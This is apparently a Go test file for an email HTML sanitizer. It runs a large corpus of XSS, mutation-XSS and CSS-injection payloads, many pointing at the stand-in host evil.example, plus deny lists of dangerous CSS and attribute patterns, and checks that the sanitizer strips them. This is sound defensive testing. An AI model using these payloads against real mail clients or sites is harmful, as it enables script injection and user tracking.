package mailview

import (
	"fmt"
	"net/url"
	"strings"
	"testing"

	"golang.org/x/net/html"
)

func htmlMail(body string) []byte {
	return msg("Subject: h", "Content-Type: text/html; charset=utf-8", "", body)
}

func cidURL(cid string) string { return "/msg/1/cid/" + cid }

// attackCorpus: each payload would run script, navigate the app, or load
// something from a remote host if it survived.
var attackCorpus = []string{
	`<script>top.pwned=1</script>`,
	`<SCRIPT SRC=http://evil.example/x.js></SCRIPT>`,
	`<scr<script>ipt>alert(1)</script>`,
	`<img src=x onerror=top.pwned=1>`,
	`<img src="x" onerror="top.pwned=1" />`,
	`<body onload=top.pwned=1>`,
	`<div onmouseover="top.pwned=1">x</div>`,
	`<a href="javascript:top.pwned=1">click</a>`,
	`<a href="JaVaScRiPt:top.pwned=1">click</a>`,
	`<a href="  javascript:top.pwned=1">click</a>`,
	`<a href="java&#x09;script:top.pwned=1">tab</a>`,
	`<a href="&#106;avascript:top.pwned=1">entity</a>`,
	`<a href="vbscript:msgbox(1)">vb</a>`,
	`<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a>`,
	`<img src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">`,
	`<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">`,
	`<iframe src="javascript:top.pwned=1"></iframe>`,
	`<iframe src="http://evil.example/"></iframe>`,
	`<iframe srcdoc="<script>top.pwned=1</script>"></iframe>`,
	`<frameset><frame src="http://evil.example/"></frameset>`,
	`<object data="http://evil.example/x.swf"></object>`,
	`<embed src="http://evil.example/x.swf">`,
	`<applet code="x"></applet>`,
	`<svg onload=top.pwned=1>`,
	`<svg><script>top.pwned=1</script></svg>`,
	`<svg><animate onbegin=top.pwned=1 attributeName=x dur=1s>`,
	`<svg><a><animate attributeName=href values=javascript:top.pwned=1 /><text x=20 y=20>X</text></a></svg>`,
	`<svg><set attributeName="onmouseover" to="top.pwned=1"/></svg>`,
	`<svg><foreignObject><iframe srcdoc="&lt;script&gt;top.pwned=1&lt;/script&gt;"></iframe></foreignObject></svg>`,
	`<svg><image href="http://evil.example/x.png"/></svg>`,
	`<math><mtext><table><mglyph><style><img src=x onerror=top.pwned=1>`,
	`<math href="javascript:top.pwned=1">x</math>`,
	`<meta http-equiv="refresh" content="0;url=http://evil.example/">`,
	`<meta http-equiv="refresh" content="0;url=javascript:top.pwned=1">`,
	`<form action="http://evil.example/"><input name=p><button formaction="javascript:top.pwned=1">go</button></form>`,
	`<isindex action="javascript:top.pwned=1" type=image>`,
	`<input type=image src="http://evil.example/x.png">`,
	`<base href="http://evil.example/">`,
	`<link rel=stylesheet href="http://evil.example/x.css">`,
	`<link rel=preconnect href="http://evil.example/">`,
	`<link rel=dns-prefetch href="//evil.example">`,
	`<link rel=prefetch href="http://evil.example/p">`,
	`<style>@import url(http://evil.example/x.css);</style>`,
	`<style>body{background:url(http://evil.example/x.png)}</style>`,
	`<div style="background-image:url(http://evil.example/x.png)">x</div>`,
	`<div style="background:url('http://evil.example/x.png')">x</div>`,
	`<div style="background: #fff url(//evil.example/x.png)">x</div>`,
	`<div style="list-style:url(http://evil.example/x.png)">x</div>`,
	`<div style="border-image:url(http://evil.example/x.png) 30">x</div>`,
	`<div style="color:red;background-image:u\rl(http://evil.example/x.png)">x</div>`,
	`<div style="background-image:\75\72\6c(http://evil.example/x.png)">x</div>`,
	`<div style="width:expression(top.pwned=1)">x</div>`,
	`<div style="behavior:url(x.htc)">x</div>`,
	`<div style="-moz-binding:url(http://evil.example/x.xml#x)">x</div>`,
	`<div style="background:image-set('http://evil.example/x.png' 1x)">x</div>`,
	`<div style="color:red/**/;background:url(http://evil.example/x.png)">x</div>`,
	`<div style="position:fixed;top:0;left:0;width:100%;height:100%">overlay</div>`,
	`<table background="http://evil.example/x.png"><tr><td background="http://evil.example/y.png">x</td></tr></table>`,
	`<body background="http://evil.example/x.png">`,
	`<img srcset="http://evil.example/x.png 1x">`,
	`<picture><source srcset="http://evil.example/x.png"><img src="cid:ok"></picture>`,
	`<video poster="http://evil.example/x.png" src="http://evil.example/v.mp4"></video>`,
	`<audio src="http://evil.example/a.mp3" autoplay></audio>`,
	`<img src="//evil.example/x.png">`,
	`<img src="http://evil.example/track.gif" width=1 height=1>`,
	`<noscript><p title="</noscript><img src=x onerror=top.pwned=1>"></noscript>`,
	`<noscript><img src="http://evil.example/noscript.png"></noscript>`,
	`<svg><style><img src=x onerror=top.pwned=1></style></svg>`,
	`<svg></p><style><a id="</style><img src=1 onerror=top.pwned=1>">`,
	`<math><mi><malignmark><style><img src=x onerror=top.pwned=1>`,
	`<template><img src=x onerror=top.pwned=1></template>`,
	`<!--<img src=x onerror=top.pwned=1>-->`,
	`<!-- --!><img src=x onerror=top.pwned=1> -->`,
	`<![CDATA[<img src=x onerror=top.pwned=1>]]>`,
	`<?xml version="1.0"?><img src=x onerror=top.pwned=1>`,
	`<xmp><img src=x onerror=top.pwned=1></xmp>`,
	`<plaintext><img src=x onerror=top.pwned=1>`,
	`<textarea><img src=x onerror=top.pwned=1></textarea>`,
	`<title><img src=x onerror=top.pwned=1></title>`,
	`<a href="http://ok.example/" onclick="top.pwned=1" target="_top">x</a>`,
	`<a href="http://ok.example/" target="_parent" rel="opener">x</a>`,
	`<div id="x" class="y" name="z">clobber</div>`,
	`<img src=x:alert(1) onerror=eval(src)>`,
	`<details open ontoggle=top.pwned=1>`,
	`<marquee onstart=top.pwned=1>`,
	`<object data="data:text/html,<script>top.pwned=1</script>"></object>`,
	`<embed src="data:image/svg+xml,<svg onload=top.pwned=1>">`,
	`<a href="http://ok.example/" ping="http://evil.example/ping">ping</a>`,
	`<img src="cid:x" srcset="http://evil.example/1.png 2x">`,
	`<div style="font-family:'x';}body{background:url(http://evil.example/x.png)">x</div>`,
	`<font face="x" style="color:expression(alert(1))">f</font>`,
	`<table><tr><td style="background-image:url(https://evil.example/x.png)">x</td></tr></table>`,
	`<a href="http://ok.example/"><svg><a xlink:href="javascript:top.pwned=1"><text>x</text></a></svg></a>`,
	`<style>img{}</style><img src=x onerror=top.pwned=1 <!-- -->`,
	`<img/src=x/onerror=top.pwned=1>`,
	`<img src=x onerror\x0b=top.pwned=1>`,
	"<img src=`x`onerror=top.pwned=1>",
	`<a href="http://ok.example/" style="position:absolute;inset:0">overlay link</a>`,
	// The mail's own <style> rules are kept (css.go): these must lose what is unsafe.
	`<style>.o{position:fixed;top:0;left:0;width:100%;height:100%;background:#fff}</style><div class="o">Your session expired</div>`,
	`<style>.o{position:absolute!important;inset:0}.p{position : FIXED}</style><div class="o">overlay</div>`,
	`<style>.o{position:sticky;top:0}</style><div class="o">sticky</div>`,
	`<style>@import url(http://evil.example/a.css);@import "http://evil.example/b.css";p{color:red}</style><p>x</p>`,
	`<style>@font-face{font-family:x;src:url(http://evil.example/f.woff)}p{font-family:x}</style><p>x</p>`,
	`<style>p{background:image-set("http://evil.example/1x.png" 1x)}</style><p>x</p>`,
	`<style>p{background-image:-webkit-image-set(url(http://evil.example/a.png) 1x)}</style><p>x</p>`,
	`<style>p{-webkit-mask-image:url(http://evil.example/m.png);-webkit-box-reflect:below 0 url(http://evil.example/r.png)}</style><p>x</p>`,
	`<style>p{width:expression(top.pwned=1);behavior:url(http://evil.example/x.htc);-moz-binding:url(http://evil.example/x.xml#x)}</style><p>x</p>`,
	`<style>p{list-style:url(http://evil.example/l.png);cursor:url(http://evil.example/c.cur),auto;border-image:url(http://evil.example/b.png) 30}</style><p>x</p>`,
	`<style>p{content:url(http://evil.example/c.png)}p::before{content:url(http://evil.example/d.png)}</style><p>x</p>`,
	`<style>p{background:u\72l(http://evil.example/e.png)}p{background:\75 rl(http://evil.example/f.png)}</style><p>x</p>`,
	`<style>p{background:url(javascript:top.pwned=1)}p{background:url(data:text/html,<script>top.pwned=1</script>)}</style><p>x</p>`,
	`<style>p{font-family:"</style><img src=x onerror=top.pwned=1>"}</style><p>x</p>`,
	`<style>@media screen{@import url(http://evil.example/m.css);p{background:url(http://evil.example/mq.png)}}</style><p>x</p>`,
	`<style>@media (min-width:1px) and (url(http://evil.example/q.png)){p{color:red}}</style><p>x</p>`,
	`<style>@keyframes k{from{background:url(http://evil.example/k.png)}}@supports (display:grid){p{background:url(http://evil.example/s.png)}}</style><p>x</p>`,
	`<style>p{background:var(--x);--x:url(http://evil.example/v.png)}p{background:attr(data-x url)}</style><p>x</p>`,
	`<style>p{background:url(/*x*/http://evil.example/c.png)}/*</style><img src=x onerror=top.pwned=1>*/</style><p>x</p>`,
	`<style>input[value^="a"]{background:url(http://evil.example/a)}</style><p>x</p>`,
	`<style><!-- p{color:red} --></style><p>x</p>`,
}

// checkCSS fails on a kept stylesheet that could load from anywhere (unless remote
// images are allowed, and then only as images), run code or cover the page.
func checkCSS(t *testing.T, payload, css string, allowRemote bool) {
	t.Helper()
	l := strings.ToLower(css)
	for _, bad := range []string{"@import", "@font-face", "@keyframes", "@supports", "expression", "behavior", "binding",
		"image-set", "-webkit-", "-moz-", "javascript", "var(", "attr(", "content:", "cursor:", "border-image", "list-style:url",
		"position:fixed", "position:absolute", "position:sticky", "\\", "<", "/*", "data:text"} {
		if strings.Contains(l, bad) {
			t.Errorf("%s: kept CSS has %q: %s", payload, bad, css)
		}
	}
	if !allowRemote && strings.Contains(l, "evil") {
		t.Errorf("%s: kept CSS loads a remote resource: %s", payload, css)
	}
}

// checkSafe parses doc as the browser does and fails on anything that can
// run script, navigate the app, or fetch a remote resource.
func checkSafe(t *testing.T, payload, doc string, allowRemote bool) {
	t.Helper()
	root, err := html.Parse(strings.NewReader(doc))
	if err != nil {
		t.Fatalf("%s: output does not parse: %v", payload, err)
	}
	styles := 0
	var walk func(n *html.Node)
	walk = func(n *html.Node) {
		if n.Type == html.ElementNode {
			if n.Namespace != "" {
				t.Errorf("%s: foreign element <%s %s> in output", payload, n.Namespace, n.Data)
			}
			switch n.Data {
			case "html", "head", "body", "meta":
			case "style":
				styles++
			default:
				if _, ok := allowed[n.Data]; !ok {
					t.Errorf("%s: element <%s> in output:\n%s", payload, n.Data, doc)
				}
			}
			if n.Data == "meta" {
				for _, a := range n.Attr {
					if a.Key == "http-equiv" {
						t.Errorf("%s: meta http-equiv in output", payload)
					}
				}
			}
			for _, a := range n.Attr {
				if n.Data == "meta" {
					continue // ours: charset and referrer policy
				}
				key, val := strings.ToLower(a.Key), strings.ToLower(strings.TrimSpace(a.Val))
				if strings.HasPrefix(key, "on") || key == "srcset" || key == "formaction" || key == "background" ||
					key == "poster" || key == "ping" || key == "name" || key == "srcdoc" {
					t.Errorf("%s: attribute %s=%q in output", payload, a.Key, a.Val)
				}
				// class and id stay for the mail's own rules to select on; nothing runs
				// in the frame to be clobbered, and only plain names pass.
				if (key == "id" || key == "class") && strings.ContainsAny(val, `"'<>&=:;()\/`) {
					t.Errorf("%s: attribute %s=%q in output", payload, a.Key, a.Val)
				}
				if key == "target" && val != "_blank" {
					t.Errorf("%s: target=%q", payload, a.Val)
				}
				if key == "href" && !(strings.HasPrefix(val, "http://") || strings.HasPrefix(val, "https://") || strings.HasPrefix(val, "mailto:")) {
					t.Errorf("%s: href=%q", payload, a.Val)
				}
				if key == "src" {
					ok := strings.HasPrefix(val, "/msg/1/cid/") || strings.HasPrefix(val, "/img?u=") || strings.HasPrefix(val, "data:image/png;") ||
						strings.HasPrefix(val, "data:image/gif;") || strings.HasPrefix(val, "data:image/jpeg;") || strings.HasPrefix(val, "data:image/webp;")
					if allowRemote && (strings.HasPrefix(val, "http://") || strings.HasPrefix(val, "https://")) {
						ok = true
					}
					if !ok {
						t.Errorf("%s: src=%q", payload, a.Val)
					}
				}
				if key == "style" && (strings.Contains(val, "url") || strings.Contains(val, "expression") || strings.Contains(val, "@") ||
					strings.Contains(val, "\\") || strings.Contains(val, "position") || strings.Contains(val, "image") || strings.Contains(val, "binding")) {
					t.Errorf("%s: style=%q", payload, a.Val)
				}
			}
			if n.Data == "a" && getAttr(n, "rel") != "noopener noreferrer" {
				t.Errorf("%s: link without rel=noopener noreferrer", payload)
			}
		}
		for c := n.FirstChild; c != nil; c = c.NextSibling {
			walk(c)
		}
	}
	walk(root)
	var sheet func(n *html.Node)
	sheet = func(n *html.Node) {
		if n.Type == html.TextNode && n.Parent != nil && n.Parent.Data == "style" {
			checkCSS(t, payload, strings.TrimPrefix(n.Data, baseStyle), allowRemote)
		}
		for c := n.FirstChild; c != nil; c = c.NextSibling {
			sheet(c)
		}
	}
	sheet(root)
	if styles != 1 {
		t.Errorf("%s: %d <style> elements, want only ours", payload, styles)
	}
	if !strings.HasPrefix(doc, `<!doctype html><html><head><meta charset="utf-8">`) {
		t.Errorf("%s: not a complete document: %.80s", payload, doc)
	}
	if !allowRemote {
		var find func(n *html.Node)
		find = func(n *html.Node) {
			if n.Type == html.ElementNode {
				for _, a := range n.Attr {
					if a.Key != "title" && a.Key != "alt" && strings.Contains(a.Val, "evil.example") {
						t.Errorf("%s: remote host in %s=%q", payload, a.Key, a.Val)
					}
				}
			}
			if n.Type == html.TextNode && n.Parent != nil && n.Parent.Data == "style" && strings.Contains(n.Data, "evil") {
				t.Errorf("%s: remote host in a style element", payload)
			}
			for c := n.FirstChild; c != nil; c = c.NextSibling {
				find(c)
			}
		}
		find(root)
	}
}

func TestSanitizerAttackCorpus(t *testing.T) {
	for i, p := range attackCorpus {
		for _, allowRemote := range []bool{false, true} {
			t.Run(fmt.Sprintf("%d/remote=%v", i, allowRemote), func(t *testing.T) {
				doc, _, err := SanitizedHTML(htmlMail(p), allowRemote, cidURL)
				if err != nil {
					t.Fatal(err)
				}
				checkSafe(t, p, doc, allowRemote)
				// The same payloads wrapped in a table and a full document.
				doc, _, err = SanitizedHTML(htmlMail("<html><head><title>t</title></head><body><table><tr><td>"+p+"</td></tr></table></body></html>"), allowRemote, cidURL)
				if err != nil {
					t.Fatal(err)
				}
				checkSafe(t, p, doc, allowRemote)
			})
		}
	}
}

func TestSanitizerKeepsLayout(t *testing.T) {
	in := `<html><head><style>.x{color:red}</style></head><body>` +
		`<table width="600" border="0" cellpadding="4" cellspacing="0" bgcolor="#ffffff" align="center" style="border-collapse:collapse;width:600px">` +
		`<tr><td colspan="2" valign="top" style="color:#333333;font-family:'Hiragino Sans',Meiryo,sans-serif;font-size:14px;padding:8px 12px;background-color:#f0f0f0;text-align:center;border:1px solid #ccc">` +
		`<h1>見出し</h1><p><b>太字</b> <i>斜体</i> <u>下線</u> <font color="red" face="MS Gothic" size="3">font</font></p>` +
		`<ul><li>one</li></ul><ol start="3"><li>three</li></ol><blockquote>quoted</blockquote><pre>  pre</pre><hr>` +
		`<a href="https://example.jp/path?q=1&amp;r=2">link</a> <a href="mailto:a@example.jp">mail</a>` +
		`<img src="cid:logo@x" alt="logo" width="100"><img src="data:image/png;base64,iVBORw0KGgo=">` +
		`<span style="color:rgb(10, 20, 30)">rgb</span><div style="display:none">preheader</div>` +
		`</td></tr></table></body></html>`
	doc, blocked, err := SanitizedHTML(htmlMail(in), false, cidURL)
	if err != nil {
		t.Fatal(err)
	}
	if blocked {
		t.Error("blockedRemote = true for a mail without remote images")
	}
	for _, want := range []string{
		`<table width="600" border="0" cellpadding="4" cellspacing="0" bgcolor="#ffffff" align="center" style="border-collapse: collapse; width: 600px">`,
		`<td colspan="2" valign="top" style="color: #333333; font-family: &#39;Hiragino Sans&#39;,Meiryo,sans-serif; font-size: 14px; padding: 8px 12px; background-color: #f0f0f0; text-align: center; border: 1px solid #ccc">`,
		`<h1>見出し</h1>`, `<b>太字</b>`, `<i>斜体</i>`, `<u>下線</u>`, `<font color="red" face="MS Gothic" size="3">font</font>`,
		`<ol start="3">`, `<blockquote>quoted</blockquote>`, `<pre>  pre</pre>`, `<hr/>`,
		`<a href="https://example.jp/path?q=1&amp;r=2" rel="noopener noreferrer" target="_blank">link</a>`,
		`<a href="mailto:a@example.jp" rel="noopener noreferrer" target="_blank">mail</a>`,
		`<img alt="logo" width="100" src="/msg/1/cid/logo@x"/>`,
		`<img src="data:image/png;base64,iVBORw0KGgo="/>`,
		`<span style="color: rgb(10, 20, 30)">rgb</span>`,
		`<div style="display: none">preheader</div>`,
	} {
		if !strings.Contains(doc, want) {
			t.Errorf("output lacks %s\n%s", want, doc)
		}
	}
	if !strings.Contains(doc, ".x{color:red;}") {
		t.Error("the mail's own <style> rule was lost")
	}
}

func TestSanitizerRemoteImages(t *testing.T) {
	in := `<p>hi</p><img src="https://tracker.example/open.gif?u=1" width="1"><img src="cid:a">`
	doc, blocked, err := SanitizedHTML(htmlMail(in), false, cidURL)
	if err != nil {
		t.Fatal(err)
	}
	if !blocked || strings.Contains(doc, "tracker.example") {
		t.Errorf("remote image not blocked (blocked=%v):\n%s", blocked, doc)
	}
	if !strings.Contains(doc, `src="/msg/1/cid/a"`) {
		t.Errorf("cid image lost:\n%s", doc)
	}
	doc, blocked, err = SanitizedHTML(htmlMail(in), true, cidURL)
	if err != nil {
		t.Fatal(err)
	}
	if blocked || !strings.Contains(doc, `src="https://tracker.example/open.gif?u=1"`) {
		t.Errorf("remote image not shown when allowed (blocked=%v):\n%s", blocked, doc)
	}
	_, blocked, _ = SanitizedHTML(htmlMail(`<img srcset="https://x.example/a.png 2x">`), false, cidURL)
	if !blocked {
		t.Error("srcset-only remote image not reported as blocked")
	}
}

func TestSanitizedHTMLOfPlainMail(t *testing.T) {
	doc, _, err := SanitizedHTML(msg("Subject: t", "", "<b>not html</b> & text"), false, cidURL)
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(doc, "<pre>&lt;b&gt;not html&lt;/b&gt; &amp; text\n</pre>") {
		t.Errorf("plain text not escaped into <pre>:\n%s", doc)
	}
}

func TestSanitizedHTMLPicksHTMLAlternative(t *testing.T) {
	doc, _, err := SanitizedHTML(nestedMail(t), false, cidURL)
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(doc, `<p>html body <img src="/msg/1/cid/logo@x"/></p>`) {
		t.Errorf("html alternative not used:\n%s", doc)
	}
}

func TestRemoteImagesMatchesSanitizer(t *testing.T) {
	inputs := append([]string{`<img src="https://x.example/a.png">`, `<p>no images</p>`, `<img src="cid:a">`}, attackCorpus...)
	for _, p := range inputs {
		raw := htmlMail(p)
		_, blocked, err := SanitizedHTML(raw, false, cidURL)
		if err != nil {
			t.Fatal(err)
		}
		if got := RemoteImages(raw); got != blocked {
			t.Errorf("%s: RemoteImages = %v, SanitizedHTML blocked = %v", p, got, blocked)
		}
	}
	if RemoteImages(msg("Subject: plain", "", "https://x.example/a.png")) {
		t.Error("a plain-text mail has no remote images")
	}
}

func TestCIDURLMayRefuse(t *testing.T) {
	doc, _, err := SanitizedHTML(htmlMail(`<p>a<img src="cid:yes">b<img src="cid:no">c</p>`), false, func(cid string) string {
		if cid == "yes" {
			return "data:image/png;base64,AAAA"
		}
		return ""
	})
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(doc, `<p>a<img src="data:image/png;base64,AAAA"/>bc</p>`) {
		t.Errorf("cidURL result not applied:\n%s", doc)
	}
}

func TestBodyColorsCarriedOver(t *testing.T) {
	for _, tt := range []struct{ in, want string }{
		{`<body bgcolor="#000000" text="#ffffff"><p>x</p></body>`, `<body style="background-color:#000000;color:#ffffff">`},
		{`<body style="background-color: navy; color: white">x</body>`, `<body style="background-color:navy;color:white">`},
		{`<body style="background:url(http://evil.example/x.png)">x</body>`, `<body>`},
		{`<body bgcolor="red;background:url(x)">x</body>`, `<body>`},
		{`<p>no body tag</p>`, `<body>`},
	} {
		doc, _, err := SanitizedHTML(htmlMail(tt.in), false, cidURL)
		if err != nil {
			t.Fatal(err)
		}
		if !strings.Contains(doc, "</style></head>"+tt.want) {
			t.Errorf("%s: want %s in\n%s", tt.in, tt.want, doc)
		}
		checkSafe(t, tt.in, doc, false)
	}
}

// proxyURL stands in for the image proxy's rewrite.
func proxyURL(remote string) string { return "/img?u=" + url.QueryEscape(remote) }

// With remote images allowed through the image proxy, every image the document can
// load — img src and url() in the mail's stylesheet — is on our own origin (the
// proxy, a cid: part) or inline data: never a remote host, for every payload of the
// attack corpus.
func TestSanitizerProxiesRemoteImages(t *testing.T) {
	in := `<style>.hero{background:url("https://news.example/hero.png") no-repeat}</style>` +
		`<p class="hero">hi</p><img src="https://tracker.example/open.gif?u=1&amp;x=2"><img src="cid:a">`
	m, err := Open(htmlMail(in))
	if err != nil {
		t.Fatal(err)
	}
	doc, blocked, err := m.Document(HTMLOptions{AllowRemote: true, CIDURL: cidURL, RemoteURL: proxyURL})
	if err != nil {
		t.Fatal(err)
	}
	if blocked {
		t.Error("blocked with remote images allowed")
	}
	for _, want := range []string{
		`src="/img?u=https%3A%2F%2Ftracker.example%2Fopen.gif%3Fu%3D1%26x%3D2"`,
		`url("/img?u=https%3A%2F%2Fnews.example%2Fhero.png")`,
		`src="/msg/1/cid/a"`,
	} {
		if !strings.Contains(doc, strings.ReplaceAll(want, "&", "&amp;")) && !strings.Contains(doc, want) {
			t.Errorf("missing %s in\n%s", want, doc)
		}
	}
	// A URL the proxy will not take is dropped, not left remote.
	doc, _, _ = m.Document(HTMLOptions{AllowRemote: true, CIDURL: cidURL, RemoteURL: func(string) string { return "" }})
	if strings.Contains(doc, "tracker.example") || strings.Contains(doc, "news.example") {
		t.Errorf("a URL the proxy refused stayed remote:\n%s", doc)
	}

	for i, p := range attackCorpus {
		m, err := Open(htmlMail(p))
		if err != nil {
			t.Fatal(err)
		}
		doc, _, err := m.Document(HTMLOptions{AllowRemote: true, CIDURL: cidURL, RemoteURL: proxyURL})
		if err != nil {
			t.Fatal(err)
		}
		checkSafe(t, p, doc, true) // true: the checks below are stricter about what an image may load
		root, _ := html.Parse(strings.NewReader(doc))
		var walk func(n *html.Node)
		walk = func(n *html.Node) {
			if n.Type == html.ElementNode {
				if src := getAttr(n, "src"); src != "" && !strings.HasPrefix(src, "/img?u=") && !strings.HasPrefix(src, "/msg/1/cid/") && !strings.HasPrefix(src, "data:image/") {
					t.Errorf("%d %s: src=%q not through the proxy", i, p, src)
				}
			}
			if n.Type == html.TextNode && n.Parent != nil && n.Parent.Data == "style" {
				for _, part := range strings.Split(n.Data, "url(")[1:] {
					u := strings.Trim(part, `"'`)
					if !strings.HasPrefix(u, "/img?u=") && !strings.HasPrefix(u, "/msg/1/cid/") && !strings.HasPrefix(u, "data:image/") {
						t.Errorf("%d %s: url(%.60s) not through the proxy", i, p, part)
					}
				}
			}
			for c := n.FirstChild; c != nil; c = c.NextSibling {
				walk(c)
			}
		}
		walk(root)
	}
}
